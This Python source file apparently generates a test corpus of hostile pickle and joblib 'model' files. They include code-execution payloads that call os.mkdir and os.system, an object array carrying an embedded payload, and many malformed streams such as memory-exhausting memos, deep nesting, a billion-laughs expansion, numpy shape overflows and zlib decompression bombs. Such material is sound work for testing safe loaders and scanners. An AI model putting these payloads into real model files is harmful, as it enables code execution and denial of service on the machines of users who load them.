"""Bare pickles and joblib's: the machine itself."""

import struct
import zlib

from attacks.build import PAYLOAD, PROTO2, STOP, Data, call, glob, mapping, number, sequence, single, text

FILE = "model.pkl"
PROTO4 = b"\x80\x04"
BIG = 2**63 - 1


def one(name: str, data: Data) -> None:
    """A pickle."""
    single(f"pickle/{name}", data, file=FILE)


one("call", PROTO2 + PAYLOAD + STOP)
one("call-inst", b"(S'pwned'\nios\nmkdir\n.")
one("call-obj", PROTO2 + b"(" + glob("os", "mkdir") + text("pwned") + b"o" + STOP)
one("call-newobj-ex", PROTO4 + glob("os", "mkdir") + sequence(text("pwned")) + b"}\x92" + STOP)
one("call-reduce-of-call", PROTO2 + call("operator", "methodcaller", text("mkdir")) + sequence(text("x")) + b"R" + STOP)
one("global-dotted", PROTO4 + text("os") + text("path.os.mkdir") + b"\x93" + sequence(text("pwned")) + b"R" + STOP)
one("global-with-newlines", PROTO4 + text("os\n\x1b[2J") + text("mkdir") + b"\x93" + STOP)
one("global-of-numbers", PROTO4 + number(1) + number(2) + b"\x93" + STOP)
one("extension-codes", PROTO2 + b"\x82\x01" + STOP)
one("persistent-id", b"Ppwned\n.")
one("buffer", b"\x80\x05\x97" + STOP)
one("no-stop", PROTO2 + mapping(a=number(1)))
one("only-protocol", PROTO2)
one("protocol-200", b"\x80\xc8N.")
one("stack-underflow", PROTO2 + b"R" + STOP)
one("mark-missing", PROTO2 + b"t" + STOP)
one("marks-unbalanced", PROTO2 + b"(" * 500_000 + STOP)
one("pop-of-nothing", PROTO2 + b"0" * 10 + STOP)
one("memo-missing", PROTO2 + b"h\x09" + STOP)
one("memo-index-huge", PROTO2 + b"Nr\xff\xff\xff\xff" + STOP)
one("memo-index-of-digits", b"Np" + b"9" * 400_000 + b"\n.")
one("memo-many", lambda: PROTO4 + b"]\x94" + b"N\x94" * 8_000_000 + STOP)
one("frame-outside", PROTO4 + b"\x95" + struct.pack("<Q", BIG) + b"N" + STOP)
one("frames-nested", PROTO4 + b"\x95" + struct.pack("<Q", 9) + b"\x95" + struct.pack("<Q", 400) + b"N" + STOP)
one("string-outside", PROTO2 + b"X\xff\xff\xff\x7f" + STOP)
one("string-of-2-63", PROTO4 + b"\x8d" + struct.pack("<Q", BIG) + STOP)
one("string-negative", b"T" + struct.pack("<i", -5) + STOP)
one("bytes-outside", b"\x80\x05\x96" + struct.pack("<Q", BIG) + STOP)
one("string-not-utf8", PROTO2 + b"X\2\0\0\0\xff\xfe" + STOP)
one("string-no-newline", b"S'" + b"a" * 1000)
one("strings-copied", lambda: PROTO2 + text("a" * 1_000_000) + b"q\0" + b"(" + b"h\0" * 2_000_000 + b"t" + STOP)
one("integer-of-megabytes", lambda: PROTO2 + b"\x8b" + struct.pack("<i", 4_000_000) + b"\x7f" * 4_000_000 + STOP)
one("integer-of-digits", lambda: b"I" + b"9" * 3_000_000 + b"\n.")
one("integer-length-negative", PROTO2 + b"\x8b" + struct.pack("<i", -1) + STOP)
one("float-of-digits", lambda: b"F" + b"9" * 3_000_000 + b"\n.")
one("nested-tuples", lambda: PROTO2 + b")" + b"\x85" * 3_000_000 + STOP)
one("nested-lists", lambda: PROTO2 + b"]" * 1_000_000 + b"a" * 999_999 + STOP)
one(
    "nested-calls",
    lambda: PROTO2 + b"N" + b"".join(b"\x85q\0" + glob("a", "b") + b"h\0R" for _ in range(100_000)) + STOP,
)
one("nested-builds", lambda: PROTO2 + glob("a", "b") + b")\x81" + b"}b" * 500_000 + STOP)
one("tuple-in-itself", PROTO2 + b"]q\0h\0\x85a" + STOP)
one("dictionary-in-itself", PROTO2 + b"}q\0X\1\0\0\0ah\0s" + STOP)
one("dictionary-as-its-key", PROTO2 + b"}q\0h\0Ns" + STOP)
one("object-is-its-state", PROTO2 + glob("a", "B") + b")\x81q\0h\0b" + STOP)
one("call-with-itself", PROTO2 + b"]q\0" + glob("a", "b") + b"h\0\x85R" + b"a" + STOP)
one("dup-many", lambda: PROTO2 + b"]" + b"2" * 5_000_000 + STOP)
one(
    "laughs",
    lambda: PROTO2 + b"N" + b"".join(b"q%c(" % place + b"h%c" % place * 20 + b"t" for place in range(60)) + STOP,
)
one("appends-to-number", PROTO2 + b"K\1(NNe" + STOP)
one("setitems-odd", PROTO2 + b"}(Nu" + STOP)
one("additems-to-list", PROTO4 + b"](N\x90" + STOP)
one("unknown-opcode", PROTO2 + b"\xff" + STOP)
one("two-pickles", PROTO2 + b"N" + STOP + PROTO2 + PAYLOAD + STOP)
one("text-garbage", b"cos\nsystem\n(S'true'\ntR.")
one("numpy-shape-overflow", PROTO2 + call(
    "numpy.core.multiarray", "_reconstruct", glob("numpy", "ndarray"), sequence(number(0)), text("b")
) + sequence(number(1), sequence(number(2**40), number(2**40)), call("numpy", "dtype", text("f8"), b"\x89", b"\x88"),
             b"\x89", text("")) + b"b" + STOP)  # fmt: skip
one("numpy-short-data", PROTO2 + call(
    "numpy.core.multiarray", "_reconstruct", glob("numpy", "ndarray"), sequence(number(0)), text("b")
) + sequence(number(1), sequence(number(1000)), call("numpy", "dtype", text("f8"), b"\x89", b"\x88"),
             b"\x89", text("abc")) + b"b" + STOP)  # fmt: skip


def wrapper(*extents: int, kind: str = "f8", data: bytes = b"") -> bytes:
    """joblib's array, whose bytes follow the object inside the pickle."""
    state = mapping(
        subclass=glob("numpy", "ndarray"),
        shape=sequence(*map(number, extents)),
        order=text("C"),
        dtype=call("numpy", "dtype", text(kind), b"\x89", b"\x88"),
        allow_mmap=b"\x88",
        numpy_array_alignment_bytes=number(16),
    )
    made = glob("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81" + state + b"b"
    return PROTO2 + made + data + STOP


for word, data in {
    "shape-overflow": wrapper(2**40, 2**40),
    "shape-outside": wrapper(2**30),
    "shape-negative": wrapper(-5),
    "object-array": wrapper(1, kind="O", data=b"\xff" + PROTO2 + PAYLOAD + STOP),
    "padding-outside": wrapper(2, data=b"\xff" + bytes(16)),
    "call": PROTO2 + PAYLOAD + STOP,
}.items():
    single(f"joblib/{word}", data, file="model.joblib")
single("joblib/zlib-bomb", lambda: zlib.compress(PROTO2 + b"]" + b"N0" * 200_000_000 + STOP, 9), file="model.joblib")
single("joblib/zlib-cut", zlib.compress(wrapper(2, data=b"\0" + bytes(16)))[:-20], file="model.joblib")
single("joblib/zlib-shape-bomb", lambda: zlib.compress(wrapper(2**37, data=b"\0" + bytes(300_000_000)), 9),
       file="model.joblib")  # fmt: skip
